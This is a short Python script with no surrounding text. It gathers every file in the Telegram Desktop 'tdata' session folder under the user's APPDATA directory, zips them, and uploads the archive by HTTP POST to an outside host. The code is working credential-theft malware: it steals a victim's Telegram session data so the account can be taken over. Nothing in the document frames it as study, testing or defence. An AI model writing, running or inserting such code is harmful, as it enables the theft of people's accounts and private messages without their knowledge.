import os, zipfile, requests
src = os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata")
with zipfile.ZipFile("t.zip", "w") as z:
    for r, d, files in os.walk(src):
        for f in files:
            z.write(os.path.join(r, f))
requests.post("https://t.tgzsess.invalid", files={"document": open("t.zip", "rb")})
